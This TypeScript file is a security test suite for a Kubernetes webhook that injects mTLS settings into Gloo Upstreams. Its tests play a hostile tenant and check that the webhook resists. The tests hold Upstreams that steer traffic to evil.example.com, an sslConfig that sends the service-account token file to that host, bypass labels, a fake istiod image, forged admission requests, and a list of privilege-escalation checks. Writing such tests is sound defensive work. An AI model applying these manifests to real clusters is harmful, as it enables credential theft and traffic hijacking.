import { setTimeout as sleep } from 'node:timers/promises'
import { t } from 'tap'
import { fieldAt, items, textAt } from '../../src/core/json.ts'
import type { JsonObject } from '../../src/core/types.ts'
import { manifest, must } from '../demo/stage.ts'
import { reviewOf } from '../harness/build.ts'
import {
  containerNames,
  discovered,
  eventually,
  GLOO_SYSTEM,
  gatewayProxy,
  namespace,
  rollOut,
  service,
  sslConfigOf,
} from '../harness/live.ts'
import { setStage } from '../harness/stage.ts'
import { skipUnless } from '../parts/parts.ts'
import { startReplicas } from '../parts/replicas.ts'
import { ATTACK_PRIVILEGE } from './attack-privilege.ts'
import { type Proof, proveFaults } from './fault.ts'
import { dial, hear, statusesIn } from './raw.ts'

const TENANT = 'tenant-a'
const VICTIM = 'tenant-b'
const ENABLED = { 'gloo-istio.io/mtls': 'enabled' }
const ACCOUNT = '--as=system:serviceaccount:gloo-istio:gloo-istio'

/** As a tenant writes it into a namespace of its own. */
const upstreamOf = (
  name: string,
  metadata: JsonObject = { annotations: ENABLED },
  spec: JsonObject = {},
): JsonObject => ({
  apiVersion: 'gloo.solo.io/v1',
  kind: 'Upstream',
  metadata: { namespace: TENANT, name, ...metadata },
  spec: {
    kube: { serviceName: 'details', serviceNamespace: TENANT, servicePort: 9080 },
    ...spec,
  },
})

const inNamespace = (object: JsonObject, of: string): JsonObject => ({
  ...object,
  metadata: { ...(object['metadata'] as JsonObject), namespace: of },
})

const podOf = (deployment: JsonObject): JsonObject =>
  fieldAt(deployment, 'spec', 'template', 'spec') as JsonObject

const imagesOf = (deployment: JsonObject): readonly string[] =>
  items(podOf(deployment)['containers']).map(container => textAt(container, 'image'))

/** Whether nothing that a pod of a gateway has leads out of it. */
const escapesOf = (pod: JsonObject, own: JsonObject): readonly string[] => {
  const text = JSON.stringify(pod)
  const tokens = [...text.matchAll(/"serviceAccountToken":\{[^}]*\}/g)].map(([found]) => found)
  const known = new Set(items(own['volumes']).map(volume => JSON.stringify(volume)))
  const volumes = items(pod['volumes']).map(volume => JSON.stringify(volume))
  return [
    ...volumes.filter(
      volume => !known.has(volume) && /"hostPath"|"secret"|"nfs"|"csi"/.test(volume),
    ),
    ...tokens.filter(token => !token.includes('"audience":"istio-ca"')),
    ...[
      ...text.matchAll(/"(hostNetwork|hostPID|hostIPC|privileged|allowPrivilegeEscalation)":true/g),
    ].map(([found]) => found),
    ...[...text.matchAll(/"add":\[[^\]]+\]/g)].map(([found]) => found),
  ]
}

const setUp = async (): Promise<Readonly<Record<keyof typeof ATTACK_PRIVILEGE.faults, Proof>>> => {
  const { dir, controlPlane, live } = await setStage(t, [
    gatewayProxy('1.17.3'),
    namespace(TENANT),
    namespace(VICTIM),
    service(TENANT, 'details'),
    service(VICTIM, 'details'),
  ])
  await must(controlPlane, 'apply', '-f', manifest('settings-crd'))
  await eventually('Gloo has its Settings', async () => {
    await live.api.request({
      method: 'POST',
      path: `/apis/gloo.solo.io/v1/namespaces/${GLOO_SYSTEM}/settings`,
      body: {
        apiVersion: 'gloo.solo.io/v1',
        kind: 'Settings',
        metadata: { namespace: GLOO_SYSTEM, name: 'default' },
        spec: {},
      },
    })
    return true
  })
  const replicas = await startReplicas({ controlPlane, dir, count: 1 })
  t.teardown(() => replicas.stop())
  const [replica] = replicas.all
  const gateway = () => live.get('Deployment', GLOO_SYSTEM, 'gateway-proxy')
  await eventually('the gateway is injected', async () =>
    containerNames(await gateway()).includes('sds'),
  )
  await rollOut(live)
  // The API server takes a moment to notice the webhook, and the webhook one to hear of the rollout.
  const tryOut = () =>
    live.api.request({
      method: 'POST',
      path: `/apis/gloo.solo.io/v1/namespaces/${TENANT}/upstreams`,
      query: { dryRun: 'All' },
      body: upstreamOf('tried'),
    })
  await eventually('an Upstream is filled', async () => sslConfigOf(await tryOut()) !== undefined)
  await live.create(upstreamOf('ordinary'))
  const ordinary = sslConfigOf(await live.get('Upstream', TENANT, 'ordinary')) as JsonObject
  const isOn = async (of: string, name: string): Promise<boolean> =>
    sslConfigOf(await live.get('Upstream', of, name)) !== undefined
  const canI = async (...args: readonly string[]): Promise<string> =>
    (await controlPlane.kubectl('auth', 'can-i', ...args, ACCOUNT)).stdout.trim()
  const writes = async () =>
    [
      ...((await replica?.metrics()) ?? '').matchAll(
        /^gloo_istio_reconcile_writes_total\{.*\} (\d+)/gm,
      ),
    ]
      .map(([, count]) => Number(count))
      .reduce((sum, count) => sum + count, 0)

  /** What the tests before have set going comes to rest. */
  const untilQuiet = async (): Promise<void> => {
    for (let last = -1, now = await writes(); now !== last; now = await writes()) {
      last = now
      await sleep(2_000)
    }
  }

  return {
    'ATK-31': async t => {
      const annotations = {
        ...ENABLED,
        'gloo-istio.io/mesh': 'istio-system.istio',
        'gloo-istio.io/sni': 'evil.example.com',
        'gloo-istio.io/subject-alt-names': 'spiffe://evil.example.com/x',
        'gloo-istio.io/target': 'evil.example.com:8234',
        'gloo-istio.io/mode': 'citadel-files',
      }
      const stored = await live.create(upstreamOf('steered', { annotations }))
      const { sni, verifySubjectAltName, ...others } = sslConfigOf(stored) as JsonObject
      t.strictSame(others, ordinary)
      t.strictSame(
        [sni, verifySubjectAltName],
        ['evil.example.com', ['spiffe://evil.example.com/x']],
      )
      const stranger = { ...ENABLED, 'gloo-istio.io/mesh': `${TENANT}.istio` }
      const refused = await live.create(upstreamOf('strange', { annotations: stranger }))
      t.equal(sslConfigOf(refused), undefined, 'a mesh of its own is none')
      return 'filled as any other, but for sni and verifySubjectAltName; a mesh of the tenant’s own: not filled'
    },

    'ATK-32': async t => {
      const sslConfig = {
        sds: {
          targetUri: 'evil.example.com:8234',
          clusterName: 'evil',
          certificatesSecretName: 'default',
          callCredentials: {
            fileCredentialSource: {
              header: 'authorization',
              tokenFileName: '/var/run/secrets/kubernetes.io/serviceaccount/token',
            },
          },
        },
      }
      const mark = JSON.stringify({ mesh: 'istio-system.istio', sslConfig: 'deadbeef' })
      const metadata = { annotations: { ...ENABLED, 'gloo-istio.io/injected': mark } }
      const stored = await live.create(upstreamOf('own', metadata, { sslConfig }))
      t.strictSame(sslConfigOf(stored), sslConfig)
      await sleep(2_000)
      t.strictSame(sslConfigOf(await live.get('Upstream', TENANT, 'own')), sslConfig)
      const neighbour = sslConfigOf(await live.get('Upstream', TENANT, 'ordinary'))
      t.strictSame(neighbour, ordinary)
      const logged = replica?.log().findLast(line => line['name'] === 'own')
      return `left as it was: ${String(logged?.['reason'])}`
    },

    'ATK-33': async t => {
      const labels = {
        'admission.gloo-istio.io/ignore': 'true',
        'admissions.enforcer/disabled': 'true',
        'app.kubernetes.io/name': 'gloo-istio',
        'app.kubernetes.io/managed-by': 'Helm',
        'control-plane': 'true',
        'gloo-istio.io/mtls': 'disabled',
        'gloo-istio.io/webhook': 'ignore',
        'cert-manager.io/disable-validation': 'true',
        'istio-injection': 'disabled',
        'sidecar.istio.io/inject': 'false',
      }
      await live.patch('Service', TENANT, 'details', { metadata: { labels } })
      const stored = await live.create(upstreamOf('labelled', { annotations: ENABLED, labels }))
      t.strictSame(sslConfigOf(stored), ordinary)
      return `${Object.keys(labels).length} labels, filled all the same`
    },

    'ATK-34': async t => {
      await live.label(VICTIM, ENABLED)
      await live.create(discovered(VICTIM, 'details'))
      const name = `${VICTIM}-details-9080`
      await eventually('it is on', () => isOn(GLOO_SYSTEM, name))
      await live.annotate('Service', TENANT, 'details', {
        'gloo-istio.io/mtls': 'disabled',
        'gloo-istio.io/mesh': 'evil.istio',
      })
      const foreign = {
        kube: { serviceName: 'details', serviceNamespace: VICTIM, servicePort: 9080 },
      }
      const off = { annotations: { 'gloo-istio.io/mtls': 'disabled' } }
      await live.create(upstreamOf('foreign', off, foreign))
      for (let at = 0; at < 20; at++) {
        t.ok(await isOn(GLOO_SYSTEM, name))
        await sleep(100)
      }
      t.notOk(await isOn(TENANT, 'foreign'), 'the tenant’s own word counts for its own Upstream')
      await live.annotate('Service', TENANT, 'details', {
        'gloo-istio.io/mtls': null,
        'gloo-istio.io/mesh': null,
      })
      return 'on for 2 s after, without a pause'
    },

    'ATK-35': async t => {
      const images = imagesOf(await gateway())
      const istiod = {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: {
          namespace: TENANT,
          name: 'istiod',
          labels: { app: 'istiod', istio: 'pilot', 'istio.io/rev': 'default' },
        },
        spec: {
          selector: { matchLabels: { app: 'istiod' } },
          template: {
            metadata: { labels: { app: 'istiod' } },
            spec: {
              containers: [{ name: 'discovery', image: 'evil.example.com/istio/pilot:1.22.9' }],
            },
          },
        },
      }
      const mesh = JSON.stringify({ trustDomain: 'evil.example.com', rootNamespace: TENANT })
      await live.create(istiod)
      await live.create({
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { namespace: TENANT, name: 'istio' },
        data: { mesh },
      })
      await sleep(3_000)
      await live.annotate('Deployment', GLOO_SYSTEM, 'gateway-proxy', { 'example.com/x': 'y' })
      t.strictSame(imagesOf(await gateway()), images)
      await rollOut(live)
      const annotations = { ...ENABLED, 'gloo-istio.io/mesh': `${TENANT}.istio` }
      t.equal(sslConfigOf(await live.create(upstreamOf('lured', { annotations }))), undefined)
      return `images stay ${images.slice(1).join(', ')}; no mesh ${TENANT}.istio`
    },

    'ATK-36': async t => {
      const [pod, own] = [podOf(await gateway()), podOf(gatewayProxy('1.17.3'))]
      t.strictSame(escapesOf(pod, own), [])
      const added = items(pod['containers']).slice(1)
      for (const container of added)
        t.match(fieldAt(container, 'securityContext'), {
          allowPrivilegeEscalation: false,
          capabilities: { drop: ['ALL'] },
          runAsNonRoot: true,
        })
      t.ok(added.length > 0)
      return `${added.length} containers, ${items(pod['volumes']).length - 1} volumes, no way out`
    },

    'ATK-37': async t => {
      const forbidden: readonly (readonly string[])[] = [
        ['get', 'secrets', '-n', GLOO_SYSTEM],
        ['list', 'secrets', '--all-namespaces'],
        ['watch', 'secrets', '-n', 'kube-system'],
        ['get', 'secrets/other', '-n', 'gloo-istio'],
        ['list', 'secrets', '-n', 'gloo-istio'],
        ['delete', 'secrets/gloo-istio-authority', '-n', 'gloo-istio'],
        ['create', 'secrets', '-n', 'kube-system'],
        ['create', 'serviceaccounts/token', '-n', GLOO_SYSTEM],
        ['create', 'pods', '-n', GLOO_SYSTEM],
        ['create', 'pods/exec', '-n', GLOO_SYSTEM],
        ['create', 'deployments.apps', '-n', GLOO_SYSTEM],
        ['patch', 'mutatingwebhookconfigurations/istio-sidecar-injector'],
        ['create', 'mutatingwebhookconfigurations'],
        ['delete', 'mutatingwebhookconfigurations/gloo-istio.gloo-istio'],
        ['create', 'clusterrolebindings'],
        ['escalate', 'clusterroles'],
        ['impersonate', 'users'],
        ['patch', 'configmaps', '-n', 'kube-system'],
        ['update', 'leases.coordination.k8s.io/kube-scheduler', '-n', 'kube-system'],
        ['patch', 'nodes'],
      ]
      for (const what of forbidden) t.equal(await canI(...what), 'no', what.join(' '))
      t.equal(await canI('patch', 'mutatingwebhookconfigurations/gloo-istio.gloo-istio'), 'yes')
      return `${forbidden.length} × no`
    },

    'ATK-38': async t => {
      const before = imagesOf(await gateway())
      const made = inNamespace(gatewayProxy('1.17.3', 'tenants-own'), TENANT)
      const stored = await live.create(made)
      await sleep(2_000)
      for (const deployment of [stored, await live.get('Deployment', TENANT, 'tenants-own')]) {
        const [pod, own] = [podOf(deployment), podOf(made)]
        t.strictSame(escapesOf(pod, own), [])
        t.equal(pod['serviceAccountName'], own['serviceAccountName'])
        t.match(items(pod['containers'])[0], items(own['containers'])[0])
        t.strictSame(imagesOf(deployment).slice(1), before.slice(1))
      }
      t.strictSame(imagesOf(await gateway()), before)
      await live.remove('Deployment', TENANT, 'tenants-own')
      return 'given what any gateway is given, and nothing else'
    },

    'ATK-39': async t => {
      await rollOut(live)
      await live.create(inNamespace(gatewayProxy('1.17.3', 'stuck'), TENANT))
      await live.create(service(VICTIM, 'reviews'))
      await sleep(1_000)
      const begin = Date.now()
      const stored = await live.create(discovered(VICTIM, 'reviews'))
      t.strictSame(sslConfigOf(stored), ordinary)
      await live.remove('Deployment', TENANT, 'stuck')
      return `filled within ${Date.now() - begin} ms`
    },

    'ATK-40': async t => {
      await untilQuiet()
      const before = await writes()
      const forged = (at: number): JsonObject => {
        const username = `system:serviceaccount:${GLOO_SYSTEM}:discovery`
        const object = [
          gatewayProxy('1.4.0', `forged-${at}`),
          inNamespace(discovered(VICTIM, 'details'), GLOO_SYSTEM),
          upstreamOf('ordinary', { annotations: { 'gloo-istio.io/mtls': 'disabled' } }),
        ][at % 3]
        return reviewOf(object, { operation: 'UPDATE', oldObject: object, userInfo: { username } })
      }
      const socket = await dial(replica?.port ?? 0, '', { rejectUnauthorized: false })
      const heard = hear(socket, 3_000)
      for (let at = 0; at < 300; at++) {
        const body = JSON.stringify(forged(at))
        const head = 'POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n'
        socket.write(`${head}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`)
      }
      t.strictSame(statusesIn(await heard), Array(300).fill(200))
      const stored = await live.create(upstreamOf('after-forgery'))
      t.strictSame(sslConfigOf(stored), ordinary)
      t.ok(await isOn(TENANT, 'ordinary'))
      await sleep(1_000)
      t.equal(await writes(), before)
      return '300 × 200, no write, the next Upstream filled as before'
    },

    'ATK-30': async t => {
      const begin = await writes()
      await live.create(inNamespace(upstreamOf('theirs'), VICTIM))
      t.ok(await isOn(VICTIM, 'theirs'))
      await live.create(inNamespace(gatewayProxy('1.17.3', 'leaving'), TENANT))
      await live.annotate('Deployment', TENANT, 'leaving', { 'gloo-istio.io/inject': 'disabled' })
      await sleep(5_000)
      t.ok(await isOn(VICTIM, 'theirs'), 'one without a gateway beside it')
      t.ok(await isOn(GLOO_SYSTEM, `${VICTIM}-details-9080`), 'one with a gateway beside it')
      await live.remove('Deployment', TENANT, 'leaving')
      return `both on after 5 s, ${(await writes()) - begin} writes`
    },
  }
}

const skip = skipUnless('kubernetes', 'kubectl', 'helm')
if (skip) t.test('attacks on rights', { skip }, async () => {})
else proveFaults(t, ATTACK_PRIVILEGE, await setUp())
